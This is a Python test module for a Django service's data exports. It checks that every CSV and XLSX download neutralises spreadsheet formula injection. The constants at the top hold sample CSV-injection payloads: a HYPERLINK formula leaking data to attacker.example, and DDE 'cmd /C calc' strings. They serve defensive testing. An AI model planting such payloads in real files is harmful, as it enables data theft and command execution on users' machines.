"""Spreadsheet formula injection: every CSV the service writes neutralises text a spreadsheet would evaluate, and
every XLSX writes text as strings.

The export routes are found, not listed by hand: a page route is an export when its view (or a helper in its module)
calls ``table_download``; an API operation is one when the OpenAPI document offers ``text/csv``. ``EXPORTS`` says
how to reach each (arguments, who may download it); a route found but not there, or there but no longer found, fails
``test_every_export_route_is_walked``. Each is then downloaded, as someone allowed to, over a world where people have
typed hostile text into payees, invoice numbers, ledger reasons, session titles and notes, and usernames.
"""

from __future__ import annotations

import ast
import csv
import html
import inspect
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from apps.core.exports import FORMULA_TRIGGERS, neutralise, stream_download, table_download, write_csv
from apps.pages.testing import ICB_A

ROOT = Path(__file__).resolve().parents[3]
WRITER = ROOT / "apps" / "core" / "exports.py"

# What people typed: each begins with one of the characters a spreadsheet reads as the start of a formula.
PAYEE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
INVOICE = "@SUM(1+1)*cmd|' /C calc'!A0"
REASON = "-2+3+cmd|' /C calc'!A0"
SESSION_TITLE = "+1+cmd|' /C calc'!A0"
SESSION_NOTES = "\t=1+1"
ACTOR = "@evil-user"

Args = Callable[[dict[str, Any]], tuple[str, ...]]
# url name -> (arguments, who downloads it, the hostile values it must show neutralised). A route whose rows carry no
# free text (national open data, scores) still has every text cell checked.
EXPORTS: dict[str, tuple[Args, str, tuple[str, ...]]] = {
    "practices:search": (lambda w: (), "icb_a", ()),
    "practices:icb_list": (lambda w: (), "icb_a", ()),
    "practices:icb_detail": (lambda w: (ICB_A,), "icb_a", ()),
    "practices:pcn_detail": (lambda w: ("U89141",), "icb_a", ()),
    "indicators:watch_list": (lambda w: (ICB_A,), "icb_a", ()),
    "cases:queue": (lambda w: (), "icb_a", ()),
    "delivery:home": (lambda w: (), "icb_a", ()),
    "core:audit": (lambda w: (), "national", (ACTOR,)),
    "funding:ledger": (lambda w: (), "icb_a", (REASON,)),
    "funding:payments": (lambda w: (ICB_A,), "icb_a", (PAYEE, INVOICE)),
    "funding:spend_xlsx": (lambda w: (), "anonymous", ()),
    "targeting:icb_ripple": (lambda w: (ICB_A,), "icb_a", ()),
    "targeting:dispersal": (lambda w: (w["practice"],), "icb_a", ()),
    "targeting:scenario": (lambda w: (w["scenario"],), "icb_a", ()),
}
# API operation id -> (who calls it, query, the hostile values it must show neutralised)
API_EXPORTS: dict[str, tuple[str, dict[str, Any], tuple[str, ...]]] = {
    "list_practices": ("icb_a", {"icb": ICB_A}, ()),
    "list_icbs": ("icb_a", {}, ()),
    "list_indicators": ("icb_a", {}, ()),
    "get_practice_scores": ("icb_a", {}, ()),
    "get_watch_list": ("icb_a", {}, ()),
    "get_watch_summary": ("national", {}, ()),
    "list_cases": ("icb_a", {}, ()),
    "get_case_summary": ("national", {}, ()),
    "list_packages": ("icb_a", {}, ()),
    "list_sessions": ("provider", {}, (SESSION_TITLE, SESSION_NOTES)),
    "list_budgets": ("icb_a", {}, ()),
    "list_ledger": ("icb_a", {}, (REASON,)),
    "get_icb_run_scores": ("icb_a", {}, ()),
    "list_scenarios": ("icb_a", {}, ()),
}


def _calls(tree: ast.AST, names: set[str]) -> set[str]:
    """Names of the module's functions that call any of ``names`` (directly or through another of its functions)."""
    funcs = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)]
    found: set[str] = set()
    while True:
        targets = names | found
        more = {
            f.name
            for f in funcs
            if any(
                isinstance(c, ast.Call) and isinstance(c.func, ast.Name) and c.func.id in targets for c in ast.walk(f)
            )
        }
        if more <= found:
            return found
        found |= more


def _page_export_routes() -> set[str]:
    callers: dict[str, set[str]] = {}

    def walk(resolver: URLResolver, prefix: str) -> set[str]:
        out = set()
        for p in resolver.url_patterns:
            if isinstance(p, URLResolver):
                out |= walk(p, f"{prefix}{p.namespace}:" if p.namespace else prefix)
            elif isinstance(p, URLPattern) and p.name:
                view = inspect.unwrap(p.callback)
                module = inspect.getmodule(view)
                if module is None or not module.__name__.startswith("apps.") or module.__file__ is None:
                    continue
                if module.__name__ not in callers:
                    callers[module.__name__] = _calls(
                        ast.parse(Path(module.__file__).read_text()),
                        {"table_download", "stream_download", "download_table"},
                    )
                if view.__name__ in callers[module.__name__]:
                    out.add(f"{prefix}{p.name}")
        return out

    return walk(get_resolver(), "")


def _api_export_operations() -> set[str]:
    from apps.api.testing import openapi_document

    return {
        op["operationId"]
        for methods in openapi_document()["paths"].values()
        for op in methods.values()
        if "text/csv" in op.get("responses", {}).get("200", {}).get("content", {})
    }


def test_every_export_route_is_walked():
    assert _page_export_routes() == set(EXPORTS), "say in EXPORTS how to download the new export"
    assert _api_export_operations() == set(API_EXPORTS), "say in API_EXPORTS how to download the new CSV"


# --- the writer ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_text_starting_like_a_formula_is_written_as_text(trigger):
    buf = io.BytesIO()
    write_csv([(f"{trigger}1+1", 5, -12, "plain", None)], ["text", "n", "negative", "plain", "empty"], buf)
    (row,) = list(csv.DictReader(io.StringIO(buf.getvalue().decode())))
    assert row == {"text": f"'{trigger}1+1", "n": "5", "negative": "-12", "plain": "plain", "empty": ""}


def test_numbers_and_harmless_text_are_left_as_they_are():
    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5 and neutralise(None) is None
    assert neutralise("-0.8%") == "-0.8%" and neutralise("-12") == "-12" and neutralise("+3.5") == "+3.5"
    assert neutralise("-1+2") == "'-1+2" and neutralise("-0.8% a year") == "'-0.8% a year"
    assert neutralise("St Mary's") == "St Mary's" and neutralise("") == "" and neutralise(" =1") == " =1"


def _sheet_cells(content: bytes) -> tuple[str, list[str]]:
    """The first sheet's XML and its text cells: shared strings, or inline ones (a streamed workbook writes its
    strings in the sheet, xlsxwriter's constant-memory mode)."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        shared = z.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in z.namelist() else ""
        strings = [html.unescape(t) for t in re.findall(r"<t[^>]*>([^<]*)</t>", shared + sheet)]
    return sheet, strings


def test_xlsx_writes_formula_like_text_as_a_string_cell():
    response = table_download([(PAYEE, 3), ("http://example.org", -1)], ["text", "n"], "t", "xlsx")
    sheet, strings = _sheet_cells(response.content)
    assert "<f>" not in sheet and "hyperlink" not in sheet.lower()
    assert PAYEE in strings and "http://example.org" in strings


def test_a_streamed_download_neutralises_like_the_writer_and_never_holds_the_rows():
    def rows():  # a generator: the writer can only walk it once, row by row
        yield from ((PAYEE, n, -n, None) for n in range(5_000))

    response = stream_download(rows(), ["text", "n", "negative", "empty"], "big", "csv")
    assert response.streaming and response["Content-Disposition"] == 'attachment; filename="big.csv"'
    chunks = list(response.streaming_content)
    assert len(chunks) > 2  # sent in pieces as it is written
    table = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
    assert len(table) == 5_000 and table[7] == {"text": "'" + PAYEE, "n": "7", "negative": "-7", "empty": ""}
    workbook = stream_download(rows(), ["text", "n", "negative", "empty"], "big", "xlsx")
    sheet, strings = _sheet_cells(workbook.getvalue())
    assert "<f>" not in sheet and PAYEE in strings


def test_no_code_writes_csv_or_xlsx_except_the_export_module():
    """csv.writer, DictWriter, polars' write_csv/write_excel, xlsxwriter and openpyxl only in apps/core/exports.py."""
    forbidden_attrs = {"writer", "DictWriter", "write_csv", "write_excel", "to_csv", "write_ods"}
    forbidden_modules = {"xlsxwriter", "openpyxl", "xlwt"}
    offenders = []
    for path in sorted(ROOT.glob("**/*.py")):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in {".venv", "node_modules", ".tools"} or "tests" in rel.parts or path == WRITER:
            continue
        tree = ast.parse(path.read_text(), filename=str(path))
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in forbidden_attrs:
                offenders.append(f"{rel}:{node.lineno} .{node.attr}")
            elif isinstance(node, ast.Import | ast.ImportFrom):
                modules = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
                if any(m.split(".")[0] in forbidden_modules for m in modules):
                    offenders.append(f"{rel}:{node.lineno} import {modules}")
            elif isinstance(node, ast.Constant) and isinstance(node.value, str) and node.value.startswith("text/csv"):
                parent_ok = rel.parts[:2] == ("apps", "api")  # content negotiation names the type; it writes nothing
                if not parent_ok:
                    offenders.append(f"{rel}:{node.lineno} {node.value!r}")
    assert offenders == [], "write spreadsheets with apps.core.exports (write_csv / table_download)"


# --- every export, downloaded over hostile data ----------------------------------------------------------------------


@pytest.fixture
def hostile(personas):
    """Approved payment with a hostile payee and invoice number, a commitment varied for a hostile reason, the
    provider's delivered session with a hostile title and notes, and a change made by a user named like a formula."""
    from apps.accounts.models import Role, User
    from apps.api.testing import provider_session
    from apps.core.tests.fuzz_world import World
    from apps.funding import services

    world = World(personas)
    commitment = world.commitment
    payment = services.record_payment(
        reference=commitment.reference,
        amount_pence=50_00,
        kind="invoice",
        payee=PAYEE,
        user=world.colleague_a,
        invoice_number=INVOICE,
        offer_code="gprp-coaching",
    )
    services.approve_payment(payment=payment, user=personas["icb_a"])
    services.vary_commitment(
        reference=commitment.reference, new_amount_pence=commitment.amount_pence - 1_00, user=personas["icb_a"],
        reason=REASON,
    )  # fmt: skip
    session = provider_session(personas, "delivered")
    session.title, session.notes = SESSION_TITLE, SESSION_NOTES
    session.save()
    evil = User.objects.create_user(
        username=ACTOR, password="x-test-password-1", role=Role.ICB, icb=session.practice.icb
    )
    from apps.core import audit
    from apps.funding.models import Programme

    with audit.acting_as(evil):
        evil.first_name = "Eve"
        evil.save()
        # the national team's audit export lists programme records line by line (other records only as totals), so
        # the hostile actor also acts on a programme for the national download to show it
        programme = Programme.objects.order_by("pk").first()
        assert programme is not None
        audit.record_decision(Programme, programme.pk, "reviewed", "export test")
    scenario = world.scenario
    return {"practice": personas["practice_x"].practice.code, "scenario": scenario.ref}


def _check_cells(where: str, text: str, must_show: tuple[str, ...]) -> None:
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    unsafe = [
        c for c in cells if c.startswith(FORMULA_TRIGGERS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?(e-?\d+)?%?", c)
    ]
    assert unsafe == [], f"{where}: cells a spreadsheet would evaluate: {unsafe[:5]}"
    for value in must_show:
        assert "'" + value in cells, f"{where}: {value!r} is missing (neutralised) from {cells[:40]}"


def test_every_page_export_neutralises_hostile_text(hostile, client_for):
    for name, (args, persona, must_show) in EXPORTS.items():
        url = reverse(name, args=args(hostile))
        client = client_for(persona)
        if name == "funding:spend_xlsx":
            response = client.get(url)
        else:
            response = client.get(url, {"download": "csv"})
            assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), name
            _check_cells(name, response.getvalue().decode(), must_show)  # getvalue: a download may stream
            response = client.get(url, {"download": "xlsx"})
        assert response.status_code == 200 and "spreadsheetml" in response["Content-Type"], name
        sheet, _ = _sheet_cells(response.getvalue())
        assert "<f>" not in sheet, f"{name}: the workbook holds a formula"


def test_every_api_csv_neutralises_hostile_text(hostile, personas, client):
    from apps.api.services import create_api_token
    from apps.api.testing import openapi_document
    from apps.indicators.scoring_runs import current_run

    paths = {
        op["operationId"]: path
        for path, methods in openapi_document()["paths"].items()
        for m, op in methods.items()
        if m == "get"
    }
    # practice X's scores, ICB A's watch list
    values = {
        "/api/v1/practices/{code}/scores": personas["practice_x"].practice.code,
        "/api/v1/icbs/{code}/watch-list": ICB_A,
        "/api/v1/icbs/{code}/scoring-runs/{run}/scores": ICB_A,
    }
    for op_id, (persona, query, must_show) in API_EXPORTS.items():
        token = create_api_token(personas[persona], "export test")[1]
        path = paths[op_id].replace("{code}", values.get(paths[op_id], ""))
        path = path.replace("{run}", str(current_run().pk)) if "{run}" in path else path
        response = client.get(path, {**query, "format": "csv"}, headers={"Authorization": f"Bearer {token}"})
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), (op_id, response)
        _check_cells(op_id, response.getvalue().decode(), must_show)  # getvalue: a download may stream


# --- typed cells -----------------------------------------------------------------------------------------------------


def _typed_cells(content: bytes) -> dict[str, tuple[str | None, str, str]]:
    """Each cell of the first sheet as (type attribute, value, number format code)."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        styles = z.read("xl/styles.xml").decode()
    formats = {m[1]: html.unescape(m[2]) for m in re.finditer(r'<numFmt numFmtId="(\d+)" formatCode="([^"]*)"', styles)}
    xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
    assert xfs
    xf_formats = [formats.get(m[1], m[1]) for m in re.finditer(r'<xf numFmtId="(\d+)"', xfs[1])]
    cells = {}
    for m in re.finditer(r'<c r="([A-Z]+\d+)"([^>]*?)(?:/>|>(.*?)</c>)', sheet):
        attrs, inner = m[2], m[3] or ""
        kind = re.search(r' t="(\w+)"', attrs)
        style = re.search(r' s="(\d+)"', attrs)
        value = re.search(r"<v>([^<]*)</v>", inner)
        cells[m[1]] = (kind[1] if kind else None, value[1] if value else "", xf_formats[int(style[1])] if style else "")
    return cells


@pytest.mark.parametrize("streamed", [False, True])
def test_an_xlsx_money_cell_is_a_number_in_pounds_and_a_date_cell_a_date(streamed):
    from datetime import date
    from decimal import Decimal

    rows = [("Coach Ltd", Decimal("1234.50"), date(2026, 4, 1), 7)]
    columns, kinds = ["Payee", "Amount", "Paid on", "Sessions"], ["text", "money", "date", "number"]
    if streamed:
        content = stream_download(iter(rows), columns, "t", "xlsx", kinds=kinds).getvalue()
    else:
        content = table_download(rows, columns, "t", "xlsx", kinds=kinds).content
    cells = _typed_cells(content)
    kind, value, money_format = cells["B2"]
    assert kind is None and float(value) == 1234.5  # a number cell, in pounds
    assert "£" in money_format and "0.00" in money_format
    kind, value, date_format = cells["C2"]
    # a date is a number of days since 1899-12-30, shown with a date format
    assert kind is None and int(float(value)) == (date(2026, 4, 1) - date(1899, 12, 30)).days
    assert date_format == "dd/mm/yyyy"
    assert cells["D2"][0] is None and cells["D2"][1] == "7"


def test_a_csv_money_cell_is_pounds_with_two_places_and_a_date_is_iso():
    from datetime import date
    from decimal import Decimal

    response = table_download(
        [(Decimal("1234.5"), date(2026, 4, 1))], ["Amount", "Paid on"], "t", "csv", kinds=["money", "date"]
    )
    assert response.content.decode().splitlines() == ["Amount,Paid on", "1234.50,2026-04-01"]


# --- list tables: every row streamed, as the table gives it ----------------------------------------------------------


def _list_table(name: str, user: Any) -> Any:
    """The table the list page ``name`` builds for ``user``, over the same scoped queryset (``cases:queue``,
    ``delivery:home``)."""
    from django.db.models import Count, Q
    from django.utils import timezone

    from apps.cases.models import Package
    from apps.cases.policy import cases_visible_to
    from apps.cases.tables import CaseTable
    from apps.delivery.models import Assignment
    from apps.delivery.tables import AssignmentTable, with_session_counts

    if name == "cases:queue":
        qs = cases_visible_to(user).select_related("practice", "provider")
        qs = qs.annotate(waiting=Count("packages", filter=Q(packages__state=Package.State.SUBMITTED)))
        return CaseTable(qs.order_by("opened_at", "pk"), today=timezone.localdate())
    lines = Assignment.objects.filter(case__in=cases_visible_to(user), ended_at__isnull=True)
    rows = with_session_counts(lines).select_related("case__practice", "line__offer", "member", "organisation")
    return AssignmentTable(rows.order_by("case__opened_at", "pk"))


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["cases:queue", "delivery:home"])
def test_a_list_download_streams_the_rows_the_table_gives_without_holding_them(name, personas, rf):
    import django_tables2 as tables
    import polars as pl
    from django.http import FileResponse

    from apps.core.tables import download_table

    request = rf.get("/", {"sort": "-opened" if name == "cases:queue" else "-hours"})
    request.user = personas["icb_a"]
    # what the download held before it streamed: every row of the table built in memory, then written
    shown = _list_table(name, personas["icb_a"])
    tables.RequestConfig(request, paginate=False).configure(shown)
    columns = [c for c in shown.columns.iterall() if not c.column.exclude_from_export]
    heads, kinds = [str(c.header) for c in columns], [getattr(c.column, "kind", "text") for c in columns]
    held = [[row.get_cell_value(c.name) for c in columns] for row in shown.rows]
    assert len(held) >= 2, "the demo world has rows in both lists"

    table = _list_table(name, personas["icb_a"])
    response = download_table(request, table, "list", "csv")
    assert response.streaming and response["Content-Disposition"] == 'attachment; filename="list.csv"'
    assert b"".join(response.streaming_content) == table_download(held, heads, "t", "csv", kinds=kinds).content
    assert table.data.data._result_cache is None  # read in chunks, never cached whole on the queryset

    table = _list_table(name, personas["icb_a"])
    workbook = download_table(request, table, "list", "xlsx")
    assert isinstance(workbook, FileResponse) and table.data.data._result_cache is None
    got = pl.read_excel(io.BytesIO(workbook.getvalue()), engine="calamine")
    expected = pl.read_excel(
        io.BytesIO(table_download(held, heads, "t", "xlsx", kinds=kinds).content), engine="calamine"
    )
    assert got.columns == heads and got.equals(expected)
